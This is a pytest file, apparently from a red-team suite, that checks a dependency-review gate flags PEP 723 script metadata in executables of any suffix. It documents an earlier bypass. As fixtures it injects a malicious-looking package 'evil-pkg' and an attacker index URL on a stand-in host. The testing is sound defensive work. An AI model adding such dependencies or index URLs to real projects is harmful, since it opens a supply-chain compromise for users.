"""Attack 24: PEP 723 inline metadata in an executable with a suffix other than `.py`.

Red team 29 made an executable without a suffix (`bin/sync`, shebang `#!/usr/bin/env -S uv run --script`) a
dependency manifest. The shebang is what runs uv, not the name: `./bin/sync.sh`, `./tools/release.uv` or
`./bin/gen.py3` held at mode 100755 with that shebang install what their `# /// script` block declares just the same
(uv's `--script` reads the block whatever the suffix). On b7942c9 a package or index added to such a block was `src`
and `gate --enable deps` allowed it in both modes. Now an executable side (mode 100755 in a tree, or as the patch
gives it) is read for the block's opening line, whatever its suffix; the same files without the block, and a block in
a file nobody can execute (mode 100644, `.sh`), stay allowed."""

from __future__ import annotations

from pathlib import Path

import pytest
from changecase import committed, gated
from test_deps_gate import unreviewed

SHEBANG = "#!/usr/bin/env -S uv run --script\n"
BLOCK = '# /// script\n# requires-python = ">=3.11"\n# dependencies = [\n#   "requests<3",\n# ]\n# ///\n'
BODY = SHEBANG + BLOCK + "import requests\nprint(requests.__version__)\n"
EDITS = {"package": ("# ]\n", '#   "evil-pkg==1.0",\n# ]\n'),
         "index": ("# ]\n", '# ]\n# [tool.uv]\n# index-url = "https://evil.example/simple"\n')}
PATHS = ["bin/sync.sh", "tools/release.uv", "bin/gen.py3", "scripts/task.pyz", "bin/notes.txt"]


@pytest.mark.parametrize("added", [False, True], ids=["edited", "added"])
def test_a_uv_executable_of_any_suffix_is_reviewed(tmp_path: Path, added: bool) -> None:
    # Each path and edit in a folder of its own (v<n>/), one repository: every one must be named by a review finding.
    base: dict[str, str] = {}
    head: dict[str, str] = {}
    paths: dict[str, set[str]] = {}
    for number, (path, (edit, (old, new))) in enumerate((p, e) for p in PATHS for e in EDITS.items()):
        if not added:
            base[f"v{number}/{path}"] = BODY
        head[f"v{number}/{path}"] = BODY.replace(old, new)
        paths[f"{path} {edit}"] = {f"v{number}/{path}"}
    case = committed(tmp_path, base, head, 0o755)
    for tree in (False, True):
        code, decision = gated(case, tree)
        assert code == 3 and not unreviewed(decision, paths), (tree, unreviewed(decision, paths))


def test_look_alikes_stay_allowed(tmp_path: Path) -> None:
    """An executable shell script without the block, and the block in a file no one executes (mode 100644)."""
    shell = "#!/bin/sh\n# dependencies = curl\necho {n}\n"
    case = committed(tmp_path, {"bin/a.sh": shell.format(n=1)}, {"bin/a.sh": shell.format(n=2)}, 0o755)
    for tree in (False, True):
        assert gated(case, tree)[0] == 0, tree
    case = committed(tmp_path / "b", {"docs/sync.sh": BODY}, {"docs/sync.sh": BODY.replace("requests<3", "requests<4")},
                    0o644)
    for tree in (False, True):
        assert gated(case, tree)[0] == 0, tree
